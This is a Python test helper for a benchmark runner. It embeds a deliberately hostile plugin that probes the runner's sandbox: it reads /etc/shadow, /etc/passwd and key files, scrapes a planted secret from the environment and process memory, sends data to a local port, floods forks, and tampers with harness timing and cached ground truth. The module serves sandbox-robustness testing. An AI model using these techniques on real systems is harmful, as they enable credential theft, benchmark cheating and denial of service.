"""The walls prober of issue 41 and the helpers that run it through the CLI.

``tests/test_walls.py`` asserts on it and ``docs/tables/walls_table.py`` prints the outcome
table of ``docs/robustness.md`` from it: both import it from here, so the table shows
exactly the attacks the tests make.

Attributes
----------
WALLS_SECRET : str
    A value no honest process holds: exported to the runner, it must reach no method.
WALLS_PROBER : str
    The source of the plugin module: ``prober`` tries every attack on the walls from its
    ``reset`` and raises what it achieved as JSON (its row's message is the one way out
    that works on every path); the others each forge one column or misbehave on one path.
    What a prober must know (the run directory, the recording, the salt, a port) it is
    given as parameters, as a hostile method could guess them.
WALLS_METHODS : dict
    ``{method name: class name}`` of :data:`WALLS_PROBER`, its entry points.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pandas as pd

WALLS_SECRET = "rippleb-secret-5f1c0d6a9e2b47c8"
WALLS_PROBER = textwrap.dedent(r'''
    import errno, json, os, re, signal, socket, sys, time
    import numpy as np
    from rippleb import Method

    def _read(path):
        if not path:
            return None
        try:
            with open(path, "rb") as fh:
                return len(fh.read())
        except OSError as exc:
            return -exc.errno

    def _list(path):
        try:
            return len(os.listdir(path))
        except OSError as exc:
            return -exc.errno

    def _connect(host, port):
        try:
            with socket.create_connection((host, port), timeout=3) as sock:
                sock.sendall(b"stolen")
            return 0
        except OSError as exc:
            return exc.errno or -1

    #: What the runner's secret looks like (written so that this pattern does not match itself).
    SECRET = re.compile(rb"rippleb-secret-[0-9a-f]{16}")

    def _memory_holds():
        """Whether this process's writable memory (heap, stack, anonymous maps) holds a secret."""
        found = False
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if "w" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                    continue
                start, end = (int(v, 16) for v in fields[0].split("-"))
                try:
                    mem.seek(start)
                    found |= SECRET.search(mem.read(end - start)) is not None
                except (OSError, OverflowError, ValueError):
                    continue
        return found

    def _fork_many(limit=300):
        kids = []
        for _ in range(limit):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            kids.append(pid)
        for pid in kids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        return len(kids)

    def _dask(address):
        if not address:
            return None
        def plant(dask_scheduler=None):   # would run in the scheduler's process
            return os.getpid()
        try:
            from distributed import Client
            with Client(address, timeout=5) as client:
                return "ran in the scheduler: pid %s" % client.run_on_scheduler(plant)
        except BaseException as exc:
            return "refused: " + type(exc).__name__

    class Prober(Method):
        """Tries every attack of issue 41 on the walls from ``reset``; raises what it achieved."""
        name = "prober"
        def __init__(self, run_dir="", log="", salt="", salt_copy="", home_file="", port=0, scheduler=""):
            self.run_dir, self.log, self.salt, self.salt_copy = run_dir, log, salt, salt_copy
            self.home_file, self.port, self.scheduler = home_file, port, scheduler
        def get_params(self):
            return {}
        def reset(self, spec):
            from rippleb.integrity import key_path
            import rippleb
            found = {"read": {k: _read(p) for k, p in {
                "log": self.log, "salt": self.salt, "salt_copy": self.salt_copy, "home_file": self.home_file,
                "results": self.run_dir and os.path.join(self.run_dir, "results.csv"),
                "run_json": self.run_dir and os.path.join(self.run_dir, "run.json"),
                "key": str(key_path()), "shadow": "/etc/shadow", "passwd": "/etc/passwd",
                "own_package": __file__, "numpy": np.__file__}.items()}}
            found["list"] = {"run_dir": _list(self.run_dir) if self.run_dir else None,
                             "home": _list(os.path.expanduser("~")), "etc": _list("/etc")}
            found["environ_secret"] = SECRET.search(json.dumps(dict(os.environ)).encode()) is not None
            found["proc_environ_secret"] = SECRET.search(open("/proc/self/environ", "rb").read()) is not None
            found["memory_secret"] = _memory_holds()
            found["tcp"] = _connect("127.0.0.1", self.port) if self.port else None
            found["dask"] = _dask(self.scheduler)
            found["forks"] = _fork_many()
            package = os.path.dirname(rippleb.__file__)
            try:
                os.close(os.open(os.path.join(package, "report", "tables.py"), os.O_WRONLY | os.O_APPEND))
                found["write_package"] = 0
            except OSError as exc:
                found["write_package"] = exc.errno
            raise RuntimeError("PROBE " + json.dumps(found, separators=(",", ":")))
        def step(self, block):
            return np.zeros(len(block))

    class Clockstopper(Method):
        """Stops the clock the harness reads, and turns it back during its fit (which sleeps 2 s)."""
        name = "clockstopper"
        def fit(self, calibration):
            import time as clock
            real = clock.perf_counter
            clock.perf_counter = lambda: -real()
            time.sleep(2.0)
        def reset(self, spec):
            import time as clock
            clock.perf_counter_ns = lambda: 0
        def step(self, block):
            t0 = time.monotonic()
            while time.monotonic() - t0 < 2e-4:
                pass
            return np.zeros(len(block))

    class Framer(Method):
        """Works 0.2 ms a step, then writes 1 ns into the harness's tick times through its frame."""
        name = "framer"
        def step(self, block):
            t0 = time.monotonic()
            while time.monotonic() - t0 < 2e-4:
                pass
            ticks = sys._getframe(1).f_locals.get("ticks")
            if ticks is not None:
                ticks[:] = 1
            return np.zeros(len(block))

    class Huge(Method):
        """Returns uint64's largest value per sample."""
        name = "huge"
        def step(self, block):
            return np.full(len(block), np.iinfo(np.uint64).max, dtype=np.uint64)

    class Fat(Method):
        """Keeps ``mb`` megabytes of state from its fit."""
        name = "fat"
        def __init__(self, mb=300):
            self.mb = mb
        def fit(self, calibration):
            self.state = np.ones(int(self.mb * 2**20 // 8))
        def step(self, block):
            return np.zeros(len(block))

    class Hanger(Method):
        """Hangs on blocks of 7 samples (one conformance check) and nowhere else."""
        name = "hanger"
        def step(self, block):
            if len(block) == 7:
                while True:
                    time.sleep(1)
            return block.strain * 0.0

    class Exiter(Method):
        """Ends its process from its first step."""
        name = "exiter"
        def step(self, block):
            os._exit(7)

    class Wobbly(Method):
        """Tunable ``x``: fine in the middle, hangs above 0.8, ends its process below 0.2."""
        name = "wobbly"
        tunable = {"x": (0.0, 1.0, "linear")}
        def __init__(self, x=0.5):
            self.x = x
        def step(self, block):
            if self.x > 0.8:
                while True:
                    time.sleep(1)
            if self.x < 0.2:
                os._exit(3)
            return block.strain * self.x

    class Peeker(Method):
        """A tuning point that looks for the simulations it is tuned on (their truth included):
        the runner's cache directories (``rippleb-cache-*``) in ``/tmp``, where a runner
        without ``$TMPDIR`` keeps them, and every file in them."""
        name = "peeker"
        tunable = {"x": (0.0, 1.0, "linear")}
        def __init__(self, x=0.5):
            self.x = x
        def fit(self, calibration):
            import glob
            caches = glob.glob("/tmp/rippleb-cache-*")
            files = [p for c in caches for p in glob.glob(os.path.join(c, "**"), recursive=True) if os.path.isfile(p)]
            read = sum(1 for p in files if (_read(p) or 0) > 0)
            raise RuntimeError("PEEK listed=%d caches=%d files_read=%d" % (_list("/tmp"), len(caches), read))
        def step(self, block):
            return block.strain * self.x
''')
WALLS_METHODS = {"prober": "Prober", "clockstopper": "Clockstopper", "framer": "Framer", "huge": "Huge", "fat": "Fat",
                 "hanger": "Hanger", "exiter": "Exiter", "wobbly": "Wobbly", "peeker": "Peeker"}


def walls_cli(cwd, site, *args, env=None, stdin=None, user=None):
    """``python -m rippleb ARGS`` with the plugin on its path and :data:`WALLS_SECRET` exported."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")]),
           "RIPPLEB_KEY_FILE": str(Path(cwd) / "key"), "MY_CLOUD_TOKEN": WALLS_SECRET, **(env or {})}
    command = [sys.executable, "-m", "rippleb", *map(str, args)]
    if user is not None:
        command = [shutil.which("setpriv"), f"--reuid={user}", f"--regid={user}", "--clear-groups", *command]
    return subprocess.run(command, capture_output=True, text=True, env=env, cwd=cwd, timeout=1200, input=stdin)


def rows_by_method(run) -> dict:
    """``{method name without its parameters: row}`` of ``run``'s ``results.csv``."""
    frame = pd.read_csv(Path(run) / "results.csv", keep_default_na=False)
    return {row["method"].split("[")[0]: row for row in frame.to_dict("records")}


def probe_of(run) -> dict:
    """What the prober of ``run`` achieved: the JSON its row's message carries."""
    message = rows_by_method(run)["prober"]["message"]
    assert "PROBE " in message, message
    return json.loads(message[message.index("PROBE ") + len("PROBE "):])


def walls_label(**params) -> str:
    """The prober's variant label with ``params`` (empty ones left out, as its defaults)."""
    from rippleb.variants import label

    return label("prober", {k: v for k, v in params.items() if v not in ("", None, 0)})


class Listener:
    """A TCP port on 127.0.0.1 that counts what reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.received, self.open = self.sock.getsockname()[1], [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.open:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(100))

    def close(self):
        self.open = False
        self.thread.join(5)
        self.sock.close()
